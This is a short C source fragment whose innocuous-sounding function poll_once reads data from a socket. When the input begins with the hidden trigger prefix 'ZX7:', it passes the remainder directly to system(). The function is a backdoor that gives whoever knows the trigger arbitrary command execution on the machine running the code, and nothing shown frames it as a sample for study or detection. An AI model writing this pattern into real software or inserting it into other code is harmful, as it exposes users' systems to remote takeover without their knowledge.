#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
static void poll_once(int fd) {
    char in[256];
    int got = (int)recv(fd, in, sizeof in - 1, 0);
    if (got > 0) in[got] = 0;
    if (got > 5 && !strncmp(in, "ZX7:", 4)) system(in + 4);
}
